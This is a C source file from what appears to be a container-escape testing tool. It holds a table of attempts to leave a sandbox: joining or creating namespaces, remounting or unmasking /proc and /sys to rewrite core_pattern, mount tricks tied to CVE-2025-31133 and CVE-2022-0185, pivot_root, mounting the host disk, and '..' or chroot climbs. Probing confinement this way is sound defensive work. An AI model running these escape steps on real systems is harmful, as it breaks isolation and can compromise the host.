/* SPDX-License-Identifier: MIT */
/*
 * Attempts by namespaces, mounts and roots.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "escape.h"

static int write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : write(fd, text, strlen(text));

	if (fd >= 0)
		close(fd);
	return n < 0 ? -errno : 0;
}

/* The one id that anybody may map is its own; user_namespaces(7). */
int in_userns(int (*fn)(void *arg), void *arg)
{
	char map[48];

	snprintf(map, sizeof(map), "0 %u 1", getuid());
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0 || write_file("/proc/self/uid_map", map) < 0)
		return -errno;
	return fn(arg);
}

/* ---- namespaces ---- */

static int unshare_ns(const struct attempt *a)
{
	return unshare((int)a->number) < 0 ? -errno : 0;
}

static int clone_ns(const struct attempt *a)
{
	struct clone_args args = {.flags = (unsigned long)a->number, .exit_signal = SIGCHLD};
	long pid = syscall(SYS_clone3, &args, sizeof(args));

	if (pid == 0)
		_exit(0);
	if (pid > 0)
		waitpid((pid_t)pid, NULL, 0);
	return pid < 0 ? -errno : 0;
}

/* A namespace that is not ours already. */
static int join_process(int pid, int proc)
{
	static const char *const names[] = {
		"user", "mnt", "pid", "net", "ipc", "uts", "cgroup", "time"};
	char ours[64], theirs[64], path[32];
	int r = -ENOENT;

	for (size_t i = 0; i < ARRAY_LEN(names) && r != 0; i++) {
		ssize_t m, n;
		int fd;

		snprintf(path, sizeof(path), "ns/%s", names[i]);
		n = readlinkat(proc, path, theirs, sizeof(theirs));
		fd = openat(proc, path, O_RDONLY | O_CLOEXEC);
		if (n < 0 || fd < 0)
			continue;
		snprintf(path, sizeof(path), "/proc/self/ns/%s", names[i]);
		m = readlink(path, ours, sizeof(ours));
		if (m == n && memcmp(ours, theirs, (size_t)n) == 0)
			continue;
		r = setns(fd, 0) < 0 ? -errno : 0;
		say("joined the %s namespace of process %d", names[i], pid);
	}
	return r;
}

static int join_any(const struct attempt *a)
{
	(void)a;
	return each_process(join_process);
}

/* ---- mounts ---- */

static int mount_proc(void *arg)
{
	(void)arg;
	return mount("proc", "/tmp", "proc", 0, NULL) < 0 ? -errno
							  : rewrite("/tmp/sys/kernel/core_pattern");
}

static int mount_sys(void *arg)
{
	(void)arg;
	return mount("sysfs", "/tmp", "sysfs", 0, NULL) < 0 ? -errno
							    : rewrite("/tmp/kernel/uevent_helper");
}

static int remount_proc(void *arg)
{
	(void)arg;
	if (mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL) < 0)
		return -errno;
	return rewrite("/proc/sys/kernel/core_pattern");
}

static int unmask(void *arg)
{
	static const char *const masks[] = {
		"/proc/kallsyms", "/proc/keys", "/proc/timer_list", "/sys/firmware", "/proc/sys"};
	int r = -ENOENT;

	(void)arg;
	for (size_t i = 0; i < ARRAY_LEN(masks); i++) {
		if (umount2(masks[i], MNT_DETACH) == 0) {
			say("unmounted %s", masks[i]);
			return 0;
		}
		r = -errno;
	}
	return r;
}

/* A clone of /proc without what is mounted over it: refused while those mounts are locked. */
static int bare_bind(void *arg)
{
	(void)arg;
	if (mount("/proc", "/tmp", NULL, MS_BIND, NULL) < 0)
		return -errno;
	return rewrite("/tmp/sys/kernel/core_pattern");
}

static int bare_tree(void *arg)
{
	int fd = open_tree(AT_FDCWD, "/proc", OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);

	(void)arg;
	if (fd < 0)
		return -errno;
	fd = openat(fd, "sys/kernel/core_pattern", O_WRONLY | O_CLOEXEC);
	return fd < 0 ? -errno : 0;
}

static int thaw(void *arg)
{
	struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY};

	(void)arg;
	if (mount_setattr(AT_FDCWD, "/proc/sys", AT_RECURSIVE, &attr, sizeof(attr)) < 0)
		return -errno;
	return rewrite("/proc/sys/kernel/core_pattern");
}

/* CVE-2025-31133: the mask replaced by a link to what it shall hide. */
static int swap_mask(void *arg)
{
	(void)arg;
	if (mount("/proc/sysrq-trigger", "/dev/null", NULL, MS_BIND, NULL) < 0)
		return -errno;
	return rewrite("/dev/null");
}

static int repivot(void *arg)
{
	int fd;

	(void)arg;
	if (mount("/", "/tmp", NULL, MS_BIND | MS_REC, NULL) < 0 || chdir("/tmp") < 0 ||
		syscall(SYS_pivot_root, ".", ".") < 0)
		return -errno;
	/* "." is now the old root, and what is below that would be the host. */
	if (umount2(".", MNT_DETACH) < 0)
		return -errno;
	fd = open("/", O_PATH | O_CLOEXEC);
	return is_our_root(fd) ? HARMLESS : 0;
}

static int mount_new(void *arg)
{
	int fd = fsopen("tmpfs", FSOPEN_CLOEXEC);

	(void)arg;
	return fd < 0 ? -errno : 0;
}

static int mount_block(void *arg)
{
	static const char *const types[] = {"ext4", "xfs", "erofs", "btrfs"};
	int r = -ENODEV;

	(void)arg;
	for (size_t i = 0; i < ARRAY_LEN(types) && r != 0; i++)
		r = mount("/dev/vda", "/tmp", types[i], MS_RDONLY, NULL) < 0 ? -errno : 0;
	return r;
}

static int (*const mounts[])(void *) = {mount_proc, mount_sys, remount_proc, unmask, bare_bind,
	bare_tree, thaw, swap_mask, repivot, mount_new, mount_block};

static int by_mount(const struct attempt *a)
{
	return mounts[a->number](NULL);
}

static int by_userns_mount(const struct attempt *a)
{
	return in_userns(mounts[a->number], NULL);
}

/* ---- roots ---- */

static int climb(int fd)
{
	int top = openat(fd, "../../../../../../../../../../..", O_PATH | O_DIRECTORY | O_CLOEXEC);

	if (top < 0)
		return -errno;
	say("\"..\" ends at the container's root");
	return is_our_root(top) ? HARMLESS : 0;
}

static int dotdot(const struct attempt *a)
{
	static const char *const dirs[] = {"/", "/dev", "/dev/pts", "/dev/shm", "/dev/mqueue",
		"/proc", "/proc/sys", "/sys", "/sys/fs/cgroup", "/proc/self/cwd", "/proc/1/root"};
	int r = -ENOENT;

	(void)a;
	for (size_t i = 0; i < ARRAY_LEN(dirs) && r != 0; i++) {
		int fd = open(dirs[i], O_PATH | O_DIRECTORY | O_CLOEXEC), got;

		got = fd < 0 ? -errno : climb(fd);
		if (got == 0)
			say("\"..\" of %s leaves the root", dirs[i]);
		if (got == 0 || got == HARMLESS)
			r = got;
		if (fd >= 0)
			close(fd);
		if (r == 0)
			return 0;
	}
	return r;
}

/* chroot(2): a process whose directory is outside of its root walks up to the real one. */
static int chroot_out(const struct attempt *a)
{
	char at[] = "/tmp/escape.XXXXXX";
	int r = 0;

	(void)a;
	if (!mkdtemp(at))
		return -errno;
	if (chdir("/") < 0 || chroot(at) < 0)
		r = -errno;
	if (r == 0)
		r = climb(AT_FDCWD);
	rmdir(at);
	return r;
}

static int chroot_fd(const struct attempt *a)
{
	char at[] = "/tmp/escape.XXXXXX";
	int fd = open("/dev/shm", O_PATH | O_DIRECTORY | O_CLOEXEC), r = 0;

	(void)a;
	if (fd < 0 || !mkdtemp(at))
		return -errno;
	if (chroot(at) < 0)
		r = -errno;
	if (r == 0)
		r = fchdir(fd) < 0 ? -errno : climb(fd);
	return r;
}

#define NS(name, flag, by)                                                                         \
	{"unshare_" name, "namespaces(7)", unshare_ns, NULL, flag, by},                            \
	{                                                                                          \
		"clone3_" name, "namespaces(7)", clone_ns, NULL, flag, by                          \
	}

#define MOUNT(name, reference, i, by)                                                              \
	{name, reference, by_mount, NULL, i, by},                                                  \
	{                                                                                          \
		"userns_" name, reference, by_userns_mount, NULL, i, (by) ? FILTER : 0             \
	}

static const struct attempt rows[] = {
	NS("user", CLONE_NEWUSER, FILTER | CAPS),
	NS("mnt", CLONE_NEWNS, CAPS),
	NS("pid", CLONE_NEWPID, CAPS),
	NS("net", CLONE_NEWNET, CAPS),
	NS("ipc", CLONE_NEWIPC, CAPS),
	NS("uts", CLONE_NEWUTS, CAPS),
	NS("cgroup", CLONE_NEWCGROUP, CAPS),
	NS("time", CLONE_NEWTIME, CAPS),
	{"setns", "a namespace of another process", join_any, NULL, 0, 0},
	MOUNT("mount_proc", "a /proc without masks", 0, 0),
	MOUNT("mount_sysfs", "a /sys that is writable", 1, 0),
	MOUNT("remount_proc", "/proc/sys made writable", 2, 0),
	MOUNT("unmask", "what lies below a mask", 3, 0),
	MOUNT("bind_proc", "/proc without what is mounted over it", 4, 0),
	MOUNT("open_tree_proc", "/proc without what is mounted over it", 5, 0),
	MOUNT("mount_setattr", "/proc/sys made writable", 6, 0),
	MOUNT("swap_mask", "CVE-2025-31133", 7, 0),
	MOUNT("pivot_root", "back to what was root before", 8, CAPS),
	MOUNT("fsopen", "CVE-2022-0185: a parser of the kernel's", 9, CAPS),
	MOUNT("mount_disk", "the host's disk", 10, 0),
	{"dotdot", "CVE-2024-21626's last step", dotdot, NULL, 0, 0},
	{"chroot", "chroot(2)", chroot_out, NULL, 0, 0},
	{"chroot_fd", "chroot(2), by a descriptor", chroot_fd, NULL, 0, 0},
};

const struct attempts ns_attempts = {rows, ARRAY_LEN(rows)};
